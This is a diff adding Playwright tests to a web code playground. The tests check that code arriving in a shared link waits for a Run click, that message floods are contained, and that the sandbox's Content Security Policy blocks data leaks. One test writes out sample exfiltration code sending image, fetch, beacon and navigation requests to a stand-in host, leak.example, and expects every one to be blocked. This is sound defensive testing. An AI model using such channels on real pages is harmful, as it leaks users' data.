@@ -1,3 +1,4 @@
+import { deflateRawSync } from 'node:zlib';
 import { findViolations } from './axe.ts';
 import { expect, test, visit } from './fixtures.ts';
 
@@ -104,12 +105,89 @@ test('the address holds the work', async ({ page, context }) => {
   const other = await context.newPage();
   await visit(other, address);
   await expect(other.getByRole('textbox', { name: 'Data' })).toHaveValue('- Shared — 共有\n  - Branch\n');
+  await other.locator('.playground-bar').getByRole('button', { name: 'Run' }).click();
   await expect(other.frameLocator('.playground-frame').locator('me-root')).toHaveText('Shared — 共有');
 
   await visit(other, `${path}#play=damaged`);
   await other.reload();
   await expect(other.getByText('does not hold a work')).toBeVisible();
   await expect(other.frameLocator('.playground-frame').locator('me-root')).toHaveText('Weekend trip');
+});
+
+test('code that came with an address waits for Run', async ({ page }) => {
+  const code = "const mark = document.createElement('h1'); mark.textContent = 'It ran'; el.append(mark);";
+  const hash = `#play=${deflateRawSync(JSON.stringify({ code, data: '- Foreign\n' })).toString('base64url')}`;
+  await page.clock.install();
+  for (const [prefix, told, run] of [
+    ['', 'Read it, then run it.', 'Run'],
+    ['/zh-Hans', '请先阅读，再运行。', '运行'],
+    ['/ja', '内容を確認してから実行してください。', '実行'],
+  ] as const) {
+    await visit(page, 'about:blank');
+    await visit(page, prefix + path + hash);
+    const map = page.locator('.playground-map');
+    await expect(map).toContainText(told);
+    // Neither typing nor another colour mode runs it.
+    await page.locator('textarea').first().fill(`${code}//`);
+    await page.evaluate(() => document.documentElement.setAttribute('data-theme', 'dark'));
+    await page.clock.runFor(2000);
+    await expect(page.locator('.playground-frame')).toHaveCount(0);
+    await map.getByRole('button', { name: run }).click();
+    await expect(page.frameLocator('.playground-frame').getByRole('heading')).toHaveText('It ran');
+  }
+});
+
+test('messages of any kind harm nothing, and code is sent to a frame once', async ({ page }) => {
+  await visit(page, path);
+  await page.getByRole('textbox', { name: 'Code' }).fill(`console.log('ran');
+const wrong = [null, 5, 'done', [], { type: 'log' }, { type: 'report' }, { type: 'report', lines: 5 },
+  { type: 'report', lines: [{}], failure: { message: {} } }, { type: 'report', lines: [], failure: null }, { type: 'ready' }];
+for (const message of wrong) parent.postMessage(message, '*');
+setTimeout(() => console.log('fine', { a: [1] }), 300);`);
+  await expect(page.getByRole('log')).toHaveText('ran\nfine {"a":[1]}');
+  await expect(page.locator('.playground-failure')).toHaveCount(0);
+});
+
+test('code that prints without end prints its last lines, and code that sends without end is stopped', async ({
+  page,
+}) => {
+  await visit(page, path);
+  const code = page.getByRole('textbox', { name: 'Code' });
+  await code.fill('for (let line = 1; line <= 200_000; line++) console.log(line);');
+  await expect(page.getByRole('log')).toHaveText(Array.from({ length: 100 }, (_, line) => 199_901 + line).join('\n'));
+  await code.fill(
+    "for (let line = 0; line < 200_000; line++) parent.postMessage({ type: 'report', lines: ['x'] }, '*');",
+  );
+  await expect(page.locator('.playground-failure')).toContainText('reported too much at once');
+  await expect(page.locator('.playground-frame')).toHaveCount(0);
+  expect((await page.getByRole('log').innerText()).split('\n').length).toBeLessThanOrEqual(100);
+  await code.fill("console.log('after')");
+  await expect(page.getByRole('log')).toHaveText('after');
+});
+
+test.describe('what would carry words away', () => {
+  test.use({ expectedMessages: /Content Security Policy|ERR_BLOCKED_BY_CSP|violates/ });
+
+  test('is blocked: pictures, requests and addresses of other servers', async ({ page }) => {
+    const asked: string[] = [];
+    await page.route('https://leak.example/**', (route) => {
+      asked.push(route.request().url());
+      return route.fulfill({ body: '' });
+    });
+    await visit(page, path);
+    await page.getByRole('textbox', { name: 'Code' }).fill(`
+const picture = new Image();
+picture.onerror = () => console.log('no picture');
+picture.src = 'https://leak.example/picture';
+await fetch('https://leak.example/fetch').catch(() => console.log('no request'));
+console.log(navigator.sendBeacon('https://leak.example/beacon') ? 'queued' : 'no beacon');
+setTimeout(() => location.assign('https://leak.example/page'), 300);`);
+    await expect(page.getByRole('log')).toContainText('no picture');
+    await expect(page.getByRole('log')).toContainText('no request');
+    // The browser says in the frame's place that it is not shown.
+    await expect.poll(() => page.frames().filter((frame) => frame.url().startsWith('chrome-error')).length).toBe(1);
+    expect(asked).toEqual([]);
+  });
 });
 
 test('the snippet is a whole file: imports, element, data and code', async ({ page, context }) => {
